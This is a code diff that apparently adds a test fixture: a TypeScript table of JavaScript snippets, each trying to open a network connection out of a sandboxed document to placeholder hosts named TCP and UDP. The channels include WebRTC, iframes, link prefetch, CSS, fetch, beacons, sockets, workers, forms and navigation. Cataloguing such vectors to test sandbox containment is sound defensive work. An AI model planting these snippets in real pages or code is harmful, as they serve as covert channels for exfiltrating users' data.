@@ -1,0 +1,123 @@
+/** Ways out of the document of edited code: JavaScript of an async function, `TCP` and `UDP` being addresses. */
+export const LEAKS: Record<string, string> = {
+  'a peer connection': rtc('window'),
+  'a peer connection of an empty frame': `
+    const f = document.createElement('iframe'); document.body.append(f); ${rtc('f.contentWindow')}`,
+  'a peer connection of a frame in markup': `
+    document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); ${rtc('window[window.length - 1]')}`,
+  'a peer connection of a frame of SVG': `
+    const d = document.createElement('div'); document.body.append(d);
+    d.innerHTML = '<svg><foreignObject><IFRAME></IFRAME></foreignObject></svg>'; ${rtc('window[0]')}`,
+  'a frame with a script of its own': inFrame('<script>', '</script>'),
+  'a frame with a handler': inFrame('<img src=x onerror="', '">'),
+  'a frame with a meta element': inFrame(
+    '<meta http-equiv="Content-Security-Policy" content=""><script>',
+    '</script>',
+  ),
+  'a frame with a link': `
+    const f = document.createElement('iframe');
+    f.srcdoc = '<link rel=preconnect href="http://TCP/"><link rel=stylesheet href="http://TCP/"><img src="http://TCP/">';
+    document.body.append(f);`,
+  'a frame at a JavaScript address': `
+    const f = document.createElement('iframe');
+    f.src = 'javascript:' + ${JSON.stringify(rtc('window'))}; document.body.append(f);`,
+  'a frame elsewhere': `
+    const f = document.createElement('iframe'); f.src = 'http://TCP/'; document.body.append(f);`,
+  'a frame of XML': `
+    const x = new DOMParser().parseFromString('<a xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://TCP/"/></a>', 'application/xhtml+xml');
+    document.body.append(document.adoptNode(x.documentElement)); ${rtc('window[0]')}`,
+  'a frame of an entity': `
+    const x = new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e "&#60;iframe xmlns=\\'http://www.w3.org/1999/xhtml\\'/>">]><a>&e;</a>', 'text/xml');
+    document.body.append(document.adoptNode(x.documentElement)); ${rtc('window[0]')}`,
+  'a frame with another prefix': `
+    document.body.append(document.createElementNS('http://www.w3.org/1999/xhtml', 'a:iframe')); ${rtc('window[0]')}`,
+  'a frame by document.write': `document.write('<ifr'); document.write('ame></iframe>'); ${rtc('window[0]')}`,
+  'an object': `const o = document.createElement('object'); o.data = 'http://TCP/'; document.body.append(o);`,
+  'an embed': `document.body.insertAdjacentHTML('beforeend', '<embed src="http://TCP/">');`,
+  'a window': `window.open('http://TCP/');`,
+  'an empty window': `const w = window.open(''); ${rtc('w')}`,
+  ...Object.fromEntries(
+    ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon']
+      .concat(['manifest', 'prerender', 'compression-dictionary', 'apple-touch-icon', 'expect'])
+      .map((rel) => [
+        `a link ${rel}`,
+        `const l = document.createElement('link'); l.rel = '${rel}'; l.as = 'script'; l.href = 'http://TCP/${rel}';
+         document.head.append(l);
+         document.head.insertAdjacentHTML('beforeend', '<link rel="${rel}" as="image" href="http://TCP/markup">');`,
+      ]),
+  ),
+  'a custom element that is a link': `
+    customElements.define('a-link', class extends HTMLLinkElement {}, { extends: 'link' });
+    const l = document.createElement('link', { is: 'a-link' }); l.rel = 'preconnect'; l.href = 'http://TCP/';
+    document.head.append(l);`,
+  'speculation rules': `
+    const s = document.createElement('script'); s.type = 'speculationrules';
+    s.textContent = '{"prefetch":[{"source":"list","urls":["http://TCP/"]}]}'; document.head.append(s);`,
+  'a meta refresh': `
+    document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=http://TCP/">');
+    const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://TCP/'; document.head.append(m);`,
+  'a style with addresses': `
+    const s = document.createElement('style');
+    s.textContent = '@import url("http://TCP/import"); @font-face { font-family: leak; src: url("http://TCP/font"); } body { background: url("http://TCP/image"); font-family: leak; cursor: url("http://TCP/cursor"), auto; }';
+    document.head.append(s); document.body.append('text');`,
+  'a style of an element': `document.body.style.backgroundImage = 'image-set("http://TCP/a" 1x)'; document.body.style.filter = 'url(http://TCP/a#f)';`,
+  'a font': `await new FontFace('leak', 'url(http://TCP/font)').load();`,
+  pictures: `
+    new Image().src = 'http://TCP/image';
+    document.body.insertAdjacentHTML('beforeend', '<img srcset="http://TCP/set 1x"><video poster="http://TCP/poster" src="http://TCP/video"></video><audio src="http://TCP/audio" autoplay></audio><input type="image" src="http://TCP/input"><svg><image href="http://TCP/svg"/><use href="http://TCP/use#a"/><filter><feImage href="http://TCP/fe"/></filter></svg><table background="http://TCP/table"></table><track src="http://TCP/track">');`,
+  fetch: `await fetch('http://TCP/', { mode: 'no-cors' });`,
+  'fetch that is kept alive': `await fetch('http://TCP/', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' });`,
+  fetchLater: `fetchLater('http://TCP/', { activateAfter: 0 });`,
+  'a request': `const x = new XMLHttpRequest(); x.open('GET', 'http://TCP/'); x.send();`,
+  'a beacon': `navigator.sendBeacon('http://TCP/', 'x');`,
+  'a web socket': `new WebSocket('ws://TCP/');`,
+  'a web socket as a stream': `await new WebSocketStream('ws://TCP/').opened;`,
+  'server-sent events': `new EventSource('http://TCP/');`,
+  'web transport': `await new WebTransport('https://UDP/').ready;`,
+  'a worker': `new Worker('data:text/javascript,fetch("http://TCP/")');`,
+  'a worker of a blob': `new Worker(URL.createObjectURL(new Blob(['fetch("http://TCP/",{mode:"no-cors"})'], { type: 'text/javascript' })));`,
+  'a shared worker': `new SharedWorker('data:text/javascript,fetch("http://TCP/")');`,
+  'a service worker': `await navigator.serviceWorker.register('/sw.js');`,
+  'a worklet': `await CSS.paintWorklet.addModule('http://TCP/');`,
+  'an audio worklet': `await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('http://TCP/');`,
+  'a script': `const s = document.createElement('script'); s.src = 'http://TCP/'; document.head.append(s);`,
+  'a script in the document': `
+    const s = document.createElement('script'); s.textContent = 'new Image().src = "http://TCP/"'; document.head.append(s);`,
+  'an import': `await import('http://TCP/');`,
+  'a form': `
+    document.body.insertAdjacentHTML('beforeend', '<form action="http://TCP/" method="post"></form>');
+    HTMLFormElement.prototype.submit.call(document.forms[document.forms.length - 1]);`,
+  'a form for the window': `
+    document.body.insertAdjacentHTML('beforeend', '<form action="http://TCP/" target="_top"><button></button></form>');
+    HTMLFormElement.prototype.submit.call(document.forms[document.forms.length - 1]);`,
+  'a link to another window': `
+    const a = document.createElement('a'); a.href = 'http://TCP/'; a.target = '_blank'; document.body.append(a); a.click();`,
+  'a link to the top': `
+    const a = document.createElement('a'); a.href = 'http://TCP/'; a.target = '_top'; document.body.append(a); a.click();`,
+  'a link with a ping': `
+    const a = document.createElement('a'); a.href = '#a'; a.ping = 'http://TCP/'; document.body.append(a); a.click();`,
+  'a download': `
+    const a = document.createElement('a'); a.href = 'http://TCP/'; a.download = 'a'; document.body.append(a); a.click();`,
+  'the window': `top.location.href = 'http://TCP/';`,
+  'the frame around': `parent.location.href = 'http://TCP/';`,
+  'a policy that reports': `
+    document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="Content-Security-Policy" content="img-src \\'none\\'; report-uri http://TCP/">');
+    new Image().src = 'data:image/png,';`,
+  'a payment': `await new PaymentRequest([{ supportedMethods: 'http://TCP/' }], { total: { label: 'a', amount: { currency: 'EUR', value: '1' } } }).canMakePayment();`,
+  'text as code': `new Function('new Image().src = "http://TCP/"; ' + ${JSON.stringify(rtc('window'))})();`,
+  // These come last: they may take the document away.
+  'itself by script': `location.href = 'javascript:' + ${JSON.stringify(`'<script>${rtc('window').replaceAll("'", '"')}</' + 'script>'`)};`,
+  itself: `location.href = 'http://TCP/';`,
+};
+
+function rtc(owner: string): string {
+  return `{ const c = new (${owner}).RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }] }); c.createDataChannel('a'); c.createOffer().then((o) => c.setLocalDescription(o)); }`;
+}
+
+/** In a frame whose markup is given, code that opens a connection. */
+function inFrame(before: string, after: string): string {
+  const code = `new Image().src='http://TCP/'; ${rtc('window')}`.replaceAll('"', "'");
+  const markup = JSON.stringify(before + code + after).replaceAll('</script>', '</scr"+"ipt>');
+  return `const f = document.createElement('iframe'); f.srcdoc = ${markup}; document.body.append(f);
+    document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); document.body.lastChild.srcdoc = ${markup};`;
+}
